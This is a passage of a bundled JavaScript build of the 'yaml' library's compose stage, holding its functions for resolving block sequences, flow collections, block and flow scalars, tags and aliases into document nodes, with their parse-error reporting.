  "node_modules/yaml/dist/compose/resolve-block-seq.js"(exports2) {
    "use strict";
    var YAMLSeq = require_YAMLSeq();
    var resolveProps = require_resolve_props();
    var utilFlowIndentCheck = require_util_flow_indent_check();
    function resolveBlockSeq({ composeNode, composeEmptyNode }, ctx, bs, onError, tag) {
      const NodeClass = tag?.nodeClass ?? YAMLSeq.YAMLSeq;
      const seq = new NodeClass(ctx.schema);
      if (ctx.atRoot)
        ctx.atRoot = false;
      if (ctx.atKey)
        ctx.atKey = false;
      let offset = bs.offset;
      let commentEnd = null;
      for (const { start, value } of bs.items) {
        const props = resolveProps.resolveProps(start, {
          indicator: "seq-item-ind",
          next: value,
          offset,
          onError,
          parentIndent: bs.indent,
          startOnNewline: true
        });
        if (!props.found) {
          if (props.anchor || props.tag || value) {
            if (value?.type === "block-seq")
              onError(props.end, "BAD_INDENT", "All sequence items must start at the same column");
            else
              onError(offset, "MISSING_CHAR", "Sequence item without - indicator");
          } else {
            commentEnd = props.end;
            if (props.comment)
              seq.comment = props.comment;
            continue;
          }
        }
        const node = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, start, null, props, onError);
        if (ctx.schema.compat)
          utilFlowIndentCheck.flowIndentCheck(bs.indent, value, onError);
        offset = node.range[2];
        seq.items.push(node);
      }
      seq.range = [bs.offset, offset, commentEnd ?? offset];
      return seq;
    }
    exports2.resolveBlockSeq = resolveBlockSeq;
  }
});

// node_modules/yaml/dist/compose/resolve-end.js
var require_resolve_end = __commonJS({
  "node_modules/yaml/dist/compose/resolve-end.js"(exports2) {
    "use strict";
    function resolveEnd(end, offset, reqSpace, onError) {
      let comment = "";
      if (end) {
        let hasSpace = false;
        let sep = "";
        for (const token of end) {
          const { source, type } = token;
          switch (type) {
            case "space":
              hasSpace = true;
              break;
            case "comment": {
              if (reqSpace && !hasSpace)
                onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
              const cb = source.substring(1) || " ";
              if (!comment)
                comment = cb;
              else
                comment += sep + cb;
              sep = "";
              break;
            }
            case "newline":
              if (comment)
                sep += source;
              hasSpace = true;
              break;
            default:
              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${type} at node end`);
          }
          offset += source.length;
        }
      }
      return { comment, offset };
    }
    exports2.resolveEnd = resolveEnd;
  }
});

// node_modules/yaml/dist/compose/resolve-flow-collection.js
var require_resolve_flow_collection = __commonJS({
  "node_modules/yaml/dist/compose/resolve-flow-collection.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Pair = require_Pair();
    var YAMLMap = require_YAMLMap();
    var YAMLSeq = require_YAMLSeq();
    var resolveEnd = require_resolve_end();
    var resolveProps = require_resolve_props();
    var utilContainsNewline = require_util_contains_newline();
    var utilMapIncludes = require_util_map_includes();
    var blockMsg = "Block collections are not allowed within flow collections";
    var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
    function resolveFlowCollection({ composeNode, composeEmptyNode }, ctx, fc, onError, tag) {
      const isMap3 = fc.start.source === "{";
      const fcName = isMap3 ? "flow map" : "flow sequence";
      const NodeClass = tag?.nodeClass ?? (isMap3 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
      const coll = new NodeClass(ctx.schema);
      coll.flow = true;
      const atRoot = ctx.atRoot;
      if (atRoot)
        ctx.atRoot = false;
      if (ctx.atKey)
        ctx.atKey = false;
      let offset = fc.offset + fc.start.source.length;
      for (let i = 0; i < fc.items.length; ++i) {
        const collItem = fc.items[i];
        const { start, key: key2, sep, value } = collItem;
        const props = resolveProps.resolveProps(start, {
          flow: fcName,
          indicator: "explicit-key-ind",
          next: key2 ?? sep?.[0],
          offset,
          onError,
          parentIndent: fc.indent,
          startOnNewline: false
        });
        if (!props.found) {
          if (!props.anchor && !props.tag && !sep && !value) {
            if (i === 0 && props.comma)
              onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
            else if (i < fc.items.length - 1)
              onError(props.start, "UNEXPECTED_TOKEN", `Unexpected empty item in ${fcName}`);
            if (props.comment) {
              if (coll.comment)
                coll.comment += "\n" + props.comment;
              else
                coll.comment = props.comment;
            }
            offset = props.end;
            continue;
          }
          if (!isMap3 && ctx.options.strict && utilContainsNewline.containsNewline(key2))
            onError(
              key2,
              // checked by containsNewline()
              "MULTILINE_IMPLICIT_KEY",
              "Implicit keys of flow sequence pairs need to be on a single line"
            );
        }
        if (i === 0) {
          if (props.comma)
            onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
        } else {
          if (!props.comma)
            onError(props.start, "MISSING_CHAR", `Missing , between ${fcName} items`);
          if (props.comment) {
            let prevItemComment = "";
            loop: for (const st of start) {
              switch (st.type) {
                case "comma":
                case "space":
                  break;
                case "comment":
                  prevItemComment = st.source.substring(1);
                  break loop;
                default:
                  break loop;
              }
            }
            if (prevItemComment) {
              let prev = coll.items[coll.items.length - 1];
              if (identity.isPair(prev))
                prev = prev.value ?? prev.key;
              if (prev.comment)
                prev.comment += "\n" + prevItemComment;
              else
                prev.comment = prevItemComment;
              props.comment = props.comment.substring(prevItemComment.length + 1);
            }
          }
        }
        if (!isMap3 && !sep && !props.found) {
          const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep, null, props, onError);
          coll.items.push(valueNode);
          offset = valueNode.range[2];
          if (isBlock(value))
            onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
        } else {
          ctx.atKey = true;
          const keyStart = props.end;
          const keyNode = key2 ? composeNode(ctx, key2, props, onError) : composeEmptyNode(ctx, keyStart, start, null, props, onError);
          if (isBlock(key2))
            onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
          ctx.atKey = false;
          const valueProps = resolveProps.resolveProps(sep ?? [], {
            flow: fcName,
            indicator: "map-value-ind",
            next: value,
            offset: keyNode.range[2],
            onError,
            parentIndent: fc.indent,
            startOnNewline: false
          });
          if (valueProps.found) {
            if (!isMap3 && !props.found && ctx.options.strict) {
              if (sep)
                for (const st of sep) {
                  if (st === valueProps.found)
                    break;
                  if (st.type === "newline") {
                    onError(st, "MULTILINE_IMPLICIT_KEY", "Implicit keys of flow sequence pairs need to be on a single line");
                    break;
                  }
                }
              if (props.start < valueProps.found.offset - 1024)
                onError(valueProps.found, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit flow sequence key");
            }
          } else if (value) {
            if ("source" in value && value.source?.[0] === ":")
              onError(value, "MISSING_CHAR", `Missing space after : in ${fcName}`);
            else
              onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
          }
          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode(ctx, valueProps.end, sep, null, valueProps, onError) : null;
          if (valueNode) {
            if (isBlock(value))
              onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
          } else if (valueProps.comment) {
            if (keyNode.comment)
              keyNode.comment += "\n" + valueProps.comment;
            else
              keyNode.comment = valueProps.comment;
          }
          const pair = new Pair.Pair(keyNode, valueNode);
          if (ctx.options.keepSourceTokens)
            pair.srcToken = collItem;
          if (isMap3) {
            const map = coll;
            if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
              onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
            map.items.push(pair);
          } else {
            const map = new YAMLMap.YAMLMap(ctx.schema);
            map.flow = true;
            map.items.push(pair);
            const endRange = (valueNode ?? keyNode).range;
            map.range = [keyNode.range[0], endRange[1], endRange[2]];
            coll.items.push(map);
          }
          offset = valueNode ? valueNode.range[2] : valueProps.end;
        }
      }
      const expectedEnd = isMap3 ? "}" : "]";
      const [ce, ...ee] = fc.end;
      let cePos = offset;
      if (ce?.source === expectedEnd)
        cePos = ce.offset + ce.source.length;
      else {
        const name = fcName[0].toUpperCase() + fcName.substring(1);
        const msg = atRoot ? `${name} must end with a ${expectedEnd}` : `${name} in block collection must be sufficiently indented and end with a ${expectedEnd}`;
        onError(offset, atRoot ? "MISSING_CHAR" : "BAD_INDENT", msg);
        if (ce && ce.source.length !== 1)
          ee.unshift(ce);
      }
      if (ee.length > 0) {
        const end = resolveEnd.resolveEnd(ee, cePos, ctx.options.strict, onError);
        if (end.comment) {
          if (coll.comment)
            coll.comment += "\n" + end.comment;
          else
            coll.comment = end.comment;
        }
        coll.range = [fc.offset, cePos, end.offset];
      } else {
        coll.range = [fc.offset, cePos, cePos];
      }
      return coll;
    }
    exports2.resolveFlowCollection = resolveFlowCollection;
  }
});

// node_modules/yaml/dist/compose/compose-collection.js
var require_compose_collection = __commonJS({
  "node_modules/yaml/dist/compose/compose-collection.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var YAMLMap = require_YAMLMap();
    var YAMLSeq = require_YAMLSeq();
    var resolveBlockMap = require_resolve_block_map();
    var resolveBlockSeq = require_resolve_block_seq();
    var resolveFlowCollection = require_resolve_flow_collection();
    function resolveCollection(CN, ctx, token, onError, tagName, tag) {
      const coll = token.type === "block-map" ? resolveBlockMap.resolveBlockMap(CN, ctx, token, onError, tag) : token.type === "block-seq" ? resolveBlockSeq.resolveBlockSeq(CN, ctx, token, onError, tag) : resolveFlowCollection.resolveFlowCollection(CN, ctx, token, onError, tag);
      const Coll = coll.constructor;
      if (tagName === "!" || tagName === Coll.tagName) {
        coll.tag = Coll.tagName;
        return coll;
      }
      if (tagName)
        coll.tag = tagName;
      return coll;
    }
    function composeCollection(CN, ctx, token, props, onError) {
      const tagToken = props.tag;
      const tagName = !tagToken ? null : ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg));
      if (token.type === "block-seq") {
        const { anchor, newlineAfterProp: nl } = props;
        const lastProp = anchor && tagToken ? anchor.offset > tagToken.offset ? anchor : tagToken : anchor ?? tagToken;
        if (lastProp && (!nl || nl.offset < lastProp.offset)) {
          const message = "Missing newline after block sequence props";
          onError(lastProp, "MISSING_CHAR", message);
        }
      }
      const expType = token.type === "block-map" ? "map" : token.type === "block-seq" ? "seq" : token.start.source === "{" ? "map" : "seq";
      if (!tagToken || !tagName || tagName === "!" || tagName === YAMLMap.YAMLMap.tagName && expType === "map" || tagName === YAMLSeq.YAMLSeq.tagName && expType === "seq") {
        return resolveCollection(CN, ctx, token, onError, tagName);
      }
      let tag = ctx.schema.tags.find((t) => t.tag === tagName && t.collection === expType);
      if (!tag) {
        const kt = ctx.schema.knownTags[tagName];
        if (kt?.collection === expType) {
          ctx.schema.tags.push(Object.assign({}, kt, { default: false }));
          tag = kt;
        } else {
          if (kt) {
            onError(tagToken, "BAD_COLLECTION_TYPE", `${kt.tag} used for ${expType} collection, but expects ${kt.collection ?? "scalar"}`, true);
          } else {
            onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, true);
          }
          return resolveCollection(CN, ctx, token, onError, tagName);
        }
      }
      const coll = resolveCollection(CN, ctx, token, onError, tagName, tag);
      const res = tag.resolve?.(coll, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg), ctx.options) ?? coll;
      const node = identity.isNode(res) ? res : new Scalar2.Scalar(res);
      node.range = coll.range;
      node.tag = tagName;
      if (tag?.format)
        node.format = tag.format;
      return node;
    }
    exports2.composeCollection = composeCollection;
  }
});

// node_modules/yaml/dist/compose/resolve-block-scalar.js
var require_resolve_block_scalar = __commonJS({
  "node_modules/yaml/dist/compose/resolve-block-scalar.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    function resolveBlockScalar(ctx, scalar, onError) {
      const start = scalar.offset;
      const header = parseBlockScalarHeader(scalar, ctx.options.strict, onError);
      if (!header)
        return { value: "", type: null, comment: "", range: [start, start, start] };
      const type = header.mode === ">" ? Scalar2.Scalar.BLOCK_FOLDED : Scalar2.Scalar.BLOCK_LITERAL;
      const lines = scalar.source ? splitLines2(scalar.source) : [];
      let chompStart = lines.length;
      for (let i = lines.length - 1; i >= 0; --i) {
        const content = lines[i][1];
        if (content === "" || content === "\r")
          chompStart = i;
        else
          break;
      }
      if (chompStart === 0) {
        const value2 = header.chomp === "+" && lines.length > 0 ? "\n".repeat(Math.max(1, lines.length - 1)) : "";
        let end2 = start + header.length;
        if (scalar.source)
          end2 += scalar.source.length;
        return { value: value2, type, comment: header.comment, range: [start, end2, end2] };
      }
      let trimIndent = scalar.indent + header.indent;
      let offset = scalar.offset + header.length;
      let contentStart = 0;
      for (let i = 0; i < chompStart; ++i) {
        const [indent, content] = lines[i];
        if (content === "" || content === "\r") {
          if (header.indent === 0 && indent.length > trimIndent)
            trimIndent = indent.length;
        } else {
          if (indent.length < trimIndent) {
            const message = "Block scalars with more-indented leading empty lines must use an explicit indentation indicator";
            onError(offset + indent.length, "MISSING_CHAR", message);
          }
          if (header.indent === 0)
            trimIndent = indent.length;
          contentStart = i;
          if (trimIndent === 0 && !ctx.atRoot) {
            const message = "Block scalar values in collections must be indented";
            onError(offset, "BAD_INDENT", message);
          }
          break;
        }
        offset += indent.length + content.length + 1;
      }
      for (let i = lines.length - 1; i >= chompStart; --i) {
        if (lines[i][0].length > trimIndent)
          chompStart = i + 1;
      }
      let value = "";
      let sep = "";
      let prevMoreIndented = false;
      for (let i = 0; i < contentStart; ++i)
        value += lines[i][0].slice(trimIndent) + "\n";
      for (let i = contentStart; i < chompStart; ++i) {
        let [indent, content] = lines[i];
        offset += indent.length + content.length + 1;
        const crlf = content[content.length - 1] === "\r";
        if (crlf)
          content = content.slice(0, -1);
        if (content && indent.length < trimIndent) {
          const src = header.indent ? "explicit indentation indicator" : "first line";
          const message = `Block scalar lines must not be less indented than their ${src}`;
          onError(offset - content.length - (crlf ? 2 : 1), "BAD_INDENT", message);
          indent = "";
        }
        if (type === Scalar2.Scalar.BLOCK_LITERAL) {
          value += sep + indent.slice(trimIndent) + content;
          sep = "\n";
        } else if (indent.length > trimIndent || content[0] === "	") {
          if (sep === " ")
            sep = "\n";
          else if (!prevMoreIndented && sep === "\n")
            sep = "\n\n";
          value += sep + indent.slice(trimIndent) + content;
          sep = "\n";
          prevMoreIndented = true;
        } else if (content === "") {
          if (sep === "\n")
            value += "\n";
          else
            sep = "\n";
        } else {
          value += sep + content;
          sep = " ";
          prevMoreIndented = false;
        }
      }
      switch (header.chomp) {
        case "-":
          break;
        case "+":
          for (let i = chompStart; i < lines.length; ++i)
            value += "\n" + lines[i][0].slice(trimIndent);
          if (value[value.length - 1] !== "\n")
            value += "\n";
          break;
        default:
          value += "\n";
      }
      const end = start + header.length + scalar.source.length;
      return { value, type, comment: header.comment, range: [start, end, end] };
    }
    function parseBlockScalarHeader({ offset, props }, strict, onError) {
      if (props[0].type !== "block-scalar-header") {
        onError(props[0], "IMPOSSIBLE", "Block scalar header not found");
        return null;
      }
      const { source } = props[0];
      const mode = source[0];
      let indent = 0;
      let chomp = "";
      let error = -1;
      for (let i = 1; i < source.length; ++i) {
        const ch = source[i];
        if (!chomp && (ch === "-" || ch === "+"))
          chomp = ch;
        else {
          const n = Number(ch);
          if (!indent && n)
            indent = n;
          else if (error === -1)
            error = offset + i;
        }
      }
      if (error !== -1)
        onError(error, "UNEXPECTED_TOKEN", `Block scalar header includes extra characters: ${source}`);
      let hasSpace = false;
      let comment = "";
      let length = source.length;
      for (let i = 1; i < props.length; ++i) {
        const token = props[i];
        switch (token.type) {
          case "space":
            hasSpace = true;
          // fallthrough
          case "newline":
            length += token.source.length;
            break;
          case "comment":
            if (strict && !hasSpace) {
              const message = "Comments must be separated from other tokens by white space characters";
              onError(token, "MISSING_CHAR", message);
            }
            length += token.source.length;
            comment = token.source.substring(1);
            break;
          case "error":
            onError(token, "UNEXPECTED_TOKEN", token.message);
            length += token.source.length;
            break;
          /* istanbul ignore next should not happen */
          default: {
            const message = `Unexpected token in block scalar header: ${token.type}`;
            onError(token, "UNEXPECTED_TOKEN", message);
            const ts = token.source;
            if (ts && typeof ts === "string")
              length += ts.length;
          }
        }
      }
      return { mode, indent, chomp, comment, length };
    }
    function splitLines2(source) {
      const split = source.split(/\n( *)/);
      const first = split[0];
      const m = first.match(/^( *)/);
      const line0 = m?.[1] ? [m[1], first.slice(m[1].length)] : ["", first];
      const lines = [line0];
      for (let i = 1; i < split.length; i += 2)
        lines.push([split[i], split[i + 1]]);
      return lines;
    }
    exports2.resolveBlockScalar = resolveBlockScalar;
  }
});

// node_modules/yaml/dist/compose/resolve-flow-scalar.js
var require_resolve_flow_scalar = __commonJS({
  "node_modules/yaml/dist/compose/resolve-flow-scalar.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var resolveEnd = require_resolve_end();
    function resolveFlowScalar(scalar, strict, onError) {
      const { offset, type, source, end } = scalar;
      let _type;
      let value;
      const _onError = (rel, code3, msg) => onError(offset + rel, code3, msg);
      switch (type) {
        case "scalar":
          _type = Scalar2.Scalar.PLAIN;
          value = plainValue(source, _onError);
          break;
        case "single-quoted-scalar":
          _type = Scalar2.Scalar.QUOTE_SINGLE;
          value = singleQuotedValue(source, _onError);
          break;
        case "double-quoted-scalar":
          _type = Scalar2.Scalar.QUOTE_DOUBLE;
          value = doubleQuotedValue(source, _onError);
          break;
        /* istanbul ignore next should not happen */
        default:
          onError(scalar, "UNEXPECTED_TOKEN", `Expected a flow scalar value, but found: ${type}`);
          return {
            value: "",
            type: null,
            comment: "",
            range: [offset, offset + source.length, offset + source.length]
          };
      }
      const valueEnd = offset + source.length;
      const re = resolveEnd.resolveEnd(end, valueEnd, strict, onError);
      return {
        value,
        type: _type,
        comment: re.comment,
        range: [offset, valueEnd, re.offset]
      };
    }
    function plainValue(source, onError) {
      let badChar = "";
      switch (source[0]) {
        /* istanbul ignore next should not happen */
        case "	":
          badChar = "a tab character";
          break;
        case ",":
          badChar = "flow indicator character ,";
          break;
        case "%":
          badChar = "directive indicator character %";
          break;
        case "|":
        case ">": {
          badChar = `block scalar indicator ${source[0]}`;
          break;
        }
        case "@":
        case "`": {
          badChar = `reserved character ${source[0]}`;
          break;
        }
      }
      if (badChar)
        onError(0, "BAD_SCALAR_START", `Plain value cannot start with ${badChar}`);
      return unfoldLines(source);
    }
    function singleQuotedValue(source, onError) {
      if (source[source.length - 1] !== "'" || source.length === 1)
        onError(source.length, "MISSING_CHAR", "Missing closing 'quote");
      return unfoldLines(source.slice(1, -1)).replace(/''/g, "'");
    }
    function unfoldLines(source) {
      const line = /(.*?)\r?\n/sy;
      let match = line.exec(source);
      if (!match)
        return source;
      let trimEnd, trimBoth;
      try {
        trimEnd = new RegExp("(?<![ 	])[ 	]+$");
        trimBoth = new RegExp("^[ 	]+|(?<![ 	])[ 	]+$", "g");
      } catch {
        trimEnd = /[ \t]+$/;
        trimBoth = /^[ \t]+|[ \t]+$/g;
      }
      let res = match[1].replace(trimEnd, "");
      let sep = " ";
      let pos = line.lastIndex;
      while (match = line.exec(source)) {
        const lm = match[1].replace(trimBoth, "");
        if (lm === "") {
          if (sep === "\n")
            res += sep;
          else
            sep = "\n";
        } else {
          res += sep + lm;
          sep = " ";
        }
        pos = line.lastIndex;
      }
      const last = /[ \t]*(.*)/sy;
      last.lastIndex = pos;
      match = last.exec(source);
      return res + sep + (match?.[1] ?? "");
    }
    function doubleQuotedValue(source, onError) {
      let res = "";
      for (let i = 1; i < source.length - 1; ++i) {
        const ch = source[i];
        if (ch === "\r" && source[i + 1] === "\n")
          continue;
        if (ch === "\n") {
          const { fold, offset } = foldNewline(source, i);
          res += fold;
          i = offset;
        } else if (ch === "\\") {
          let next = source[++i];
          const cc = escapeCodes[next];
          if (cc)
            res += cc;
          else if (next === "\n") {
            next = source[i + 1];
            while (next === " " || next === "	")
              next = source[++i + 1];
          } else if (next === "\r" && source[i + 1] === "\n") {
            next = source[++i + 1];
            while (next === " " || next === "	")
              next = source[++i + 1];
          } else if (next === "x" || next === "u" || next === "U") {
            const length = next === "x" ? 2 : next === "u" ? 4 : 8;
            res += parseCharCode(source, i + 1, length, onError);
            i += length;
          } else {
            const raw = source.substr(i - 1, 2);
            onError(i - 1, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
            res += raw;
          }
        } else if (ch === " " || ch === "	") {
          const wsStart = i;
          let next = source[i + 1];
          while (next === " " || next === "	")
            next = source[++i + 1];
          if (next !== "\n" && !(next === "\r" && source[i + 2] === "\n"))
            res += i > wsStart ? source.slice(wsStart, i + 1) : ch;
        } else {
          res += ch;
        }
      }
      if (source[source.length - 1] !== '"' || source.length === 1)
        onError(source.length, "MISSING_CHAR", 'Missing closing "quote');
      return res;
    }
    function foldNewline(source, offset) {
      let fold = "";
      let ch = source[offset + 1];
      while (ch === " " || ch === "	" || ch === "\n" || ch === "\r") {
        if (ch === "\r" && source[offset + 2] !== "\n")
          break;
        if (ch === "\n")
          fold += "\n";
        offset += 1;
        ch = source[offset + 1];
      }
      if (!fold)
        fold = " ";
      return { fold, offset };
    }
    var escapeCodes = {
      "0": "\0",
      // null character
      a: "\x07",
      // bell character
      b: "\b",
      // backspace
      e: "\x1B",
      // escape character
      f: "\f",
      // form feed
      n: "\n",
      // line feed
      r: "\r",
      // carriage return
      t: "	",
      // horizontal tab
      v: "\v",
      // vertical tab
      N: "\x85",
      // Unicode next line
      _: "\xA0",
      // Unicode non-breaking space
      L: "\u2028",
      // Unicode line separator
      P: "\u2029",
      // Unicode paragraph separator
      " ": " ",
      '"': '"',
      "/": "/",
      "\\": "\\",
      "	": "	"
    };
    function parseCharCode(source, offset, length, onError) {
      const cc = source.substr(offset, length);
      const ok = cc.length === length && /^[0-9a-fA-F]+$/.test(cc);
      const code3 = ok ? parseInt(cc, 16) : NaN;
      try {
        return String.fromCodePoint(code3);
      } catch {
        const raw = source.substr(offset - 2, length + 2);
        onError(offset - 2, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
        return raw;
      }
    }
    exports2.resolveFlowScalar = resolveFlowScalar;
  }
});

// node_modules/yaml/dist/compose/compose-scalar.js
var require_compose_scalar = __commonJS({
  "node_modules/yaml/dist/compose/compose-scalar.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var resolveBlockScalar = require_resolve_block_scalar();
    var resolveFlowScalar = require_resolve_flow_scalar();
    function composeScalar(ctx, token, tagToken, onError) {
      const { value, type, comment, range } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
      const tagName = tagToken ? ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg)) : null;
      let tag;
      if (ctx.options.stringKeys && ctx.atKey) {
        tag = ctx.schema[identity.SCALAR];
      } else if (tagName)
        tag = findScalarTagByName(ctx.schema, value, tagName, tagToken, onError);
      else if (token.type === "scalar")
        tag = findScalarTagByTest(ctx, value, token, onError);
      else
        tag = ctx.schema[identity.SCALAR];
      let scalar;
      try {
        const res = tag.resolve(value, (msg) => onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg), ctx.options);
        scalar = identity.isScalar(res) ? res : new Scalar2.Scalar(res);
      } catch (error) {
        const msg = error instanceof Error ? error.message : String(error);
        onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg);
        scalar = new Scalar2.Scalar(value);
      }
      scalar.range = range;
      scalar.source = value;
      if (type)
        scalar.type = type;
      if (tagName)
        scalar.tag = tagName;
      if (tag.format)
        scalar.format = tag.format;
      if (comment)
        scalar.comment = comment;
      return scalar;
    }
    function findScalarTagByName(schema, value, tagName, tagToken, onError) {
      if (tagName === "!")
        return schema[identity.SCALAR];
      const matchWithTest = [];
      for (const tag of schema.tags) {
        if (!tag.collection && tag.tag === tagName) {
          if (tag.default && tag.test)
            matchWithTest.push(tag);
          else
            return tag;
        }
      }
      for (const tag of matchWithTest)
        if (tag.test?.test(value))
          return tag;
      const kt = schema.knownTags[tagName];
      if (kt && !kt.collection) {
        schema.tags.push(Object.assign({}, kt, { default: false, test: void 0 }));
        return kt;
      }
      onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, tagName !== "tag:yaml.org,2002:str");
      return schema[identity.SCALAR];
    }
    function findScalarTagByTest({ atKey, directives, schema }, value, token, onError) {
      const tag = schema.tags.find((tag2) => (tag2.default === true || atKey && tag2.default === "key") && tag2.test?.test(value)) || schema[identity.SCALAR];
      if (schema.compat) {
        const compat = schema.compat.find((tag2) => tag2.default && tag2.test?.test(value)) ?? schema[identity.SCALAR];
        if (tag.tag !== compat.tag) {
          const ts = directives.tagString(tag.tag);
          const cs = directives.tagString(compat.tag);
          const msg = `Value may be parsed as either ${ts} or ${cs}`;
          onError(token, "TAG_RESOLVE_FAILED", msg, true);
        }
      }
      return tag;
    }
    exports2.composeScalar = composeScalar;
  }
});

// node_modules/yaml/dist/compose/util-empty-scalar-position.js
var require_util_empty_scalar_position = __commonJS({
  "node_modules/yaml/dist/compose/util-empty-scalar-position.js"(exports2) {
    "use strict";
    function emptyScalarPosition(offset, before, pos) {
      if (before) {
        pos ?? (pos = before.length);
        for (let i = pos - 1; i >= 0; --i) {
          let st = before[i];
          switch (st.type) {
            case "space":
            case "comment":
            case "newline":
              offset -= st.source.length;
              continue;
          }
          st = before[++i];
          while (st?.type === "space") {
            offset += st.source.length;
            st = before[++i];
          }
          break;
        }
      }
      return offset;
    }
    exports2.emptyScalarPosition = emptyScalarPosition;
  }
});

// node_modules/yaml/dist/compose/compose-node.js
var require_compose_node = __commonJS({
  "node_modules/yaml/dist/compose/compose-node.js"(exports2) {
    "use strict";
    var Alias = require_Alias();
    var identity = require_identity();
    var composeCollection = require_compose_collection();
    var composeScalar = require_compose_scalar();
    var resolveEnd = require_resolve_end();
    var utilEmptyScalarPosition = require_util_empty_scalar_position();
    var CN = { composeNode, composeEmptyNode };
    function composeNode(ctx, token, props, onError) {
      const atKey = ctx.atKey;
      const { spaceBefore, comment, anchor, tag } = props;
      let node;
      let isSrcToken = true;
      switch (token.type) {
        case "alias":
          node = composeAlias(ctx, token, onError);
          if (anchor || tag)
            onError(token, "ALIAS_PROPS", "An alias node must not specify any properties");
          break;
        case "scalar":
        case "single-quoted-scalar":
        case "double-quoted-scalar":
        case "block-scalar":
          node = composeScalar.composeScalar(ctx, token, tag, onError);
          if (anchor)
            node.anchor = anchor.source.substring(1);
          break;
        case "block-map":
        case "block-seq":
        case "flow-collection":
          try {
            node = composeCollection.composeCollection(CN, ctx, token, props, onError);
            if (anchor)
              node.anchor = anchor.source.substring(1);
          } catch (error) {
            const message = error instanceof Error ? error.message : String(error);
            onError(token, "RESOURCE_EXHAUSTION", message);
          }
          break;
        default: {
          const message = token.type === "error" ? token.message : `Unsupported token (type: ${token.type})`;
          onError(token, "UNEXPECTED_TOKEN", message);
          isSrcToken = false;
        }
      }
      node ?? (node = composeEmptyNode(ctx, token.offset, void 0, null, props, onError));
      if (anchor && node.anchor === "")
        onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
      if (atKey && ctx.options.stringKeys && (!identity.isScalar(node) || typeof node.value !== "string" || node.tag && node.tag !== "tag:yaml.org,2002:str")) {
        const msg = "With stringKeys, all keys must be strings";
        onError(tag ?? token, "NON_STRING_KEY", msg);
      }
      if (spaceBefore)
        node.spaceBefore = true;
      if (comment) {
        if (token.type === "scalar" && token.source === "")
          node.comment = comment;
        else
          node.commentBefore = comment;
      }
      if (ctx.options.keepSourceTokens && isSrcToken)
        node.srcToken = token;
      return node;
    }
    function composeEmptyNode(ctx, offset, before, pos, { spaceBefore, comment, anchor, tag, end }, onError) {
      const token = {
        type: "scalar",
        offset: utilEmptyScalarPosition.emptyScalarPosition(offset, before, pos),
        indent: -1,
        source: ""
      };
      const node = composeScalar.composeScalar(ctx, token, tag, onError);
      if (anchor) {
        node.anchor = anchor.source.substring(1);
        if (node.anchor === "")
          onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
      }
      if (spaceBefore)
        node.spaceBefore = true;
      if (comment) {
        node.comment = comment;
        node.range[2] = end;
      }
      return node;
    }
    function composeAlias({ options }, { offset, source, end }, onError) {
      const alias = new Alias.Alias(source.substring(1));
      if (alias.source === "")
        onError(offset, "BAD_ALIAS", "Alias cannot be an empty string");
      if (alias.source.endsWith(":"))
        onError(offset + source.length - 1, "BAD_ALIAS", "Alias ending in : is ambiguous", true);
      const valueEnd = offset + source.length;
      const re = resolveEnd.resolveEnd(end, valueEnd, options.strict, onError);
      alias.range = [offset, valueEnd, re.offset];
      if (re.comment)
        alias.comment = re.comment;
      return alias;
    }
    exports2.composeEmptyNode = composeEmptyNode;
    exports2.composeNode = composeNode;
  }
});

// node_modules/yaml/dist/compose/compose-doc.js
var require_compose_doc = __commonJS({
  "node_modules/yaml/dist/compose/compose-doc.js"(exports2) {
    "use strict";
    var Document = require_Document();
    var composeNode = require_compose_node();
    var resolveEnd = require_resolve_end();
    var resolveProps = require_resolve_props();
    function composeDoc(options, directives, { offset, start, value, end }, onError) {
      const opts = Object.assign({ _directives: directives }, options);
      const doc = new Document.Document(void 0, opts);
      const ctx = {
        atKey: false,
        atRoot: true,
        directives: doc.directives,
        options: doc.options,
        schema: doc.schema
      };
      const props = resolveProps.resolveProps(start, {
        indicator: "doc-start",
        next: value ?? end?.[0],
        offset,
        onError,
        parentIndent: 0,
        startOnNewline: true
      });
      if (props.found) {
        doc.directives.docStart = true;
        if (value && (value.type === "block-map" || value.type === "block-seq") && !props.hasNewline)
          onError(props.end, "MISSING_CHAR", "Block collection cannot start on same line with directives-end marker");
      }
      doc.contents = value ? composeNode.composeNode(ctx, value, props, onError) : composeNode.composeEmptyNode(ctx, props.end, start, null, props, onError);
      const contentEnd = doc.contents.range[2];
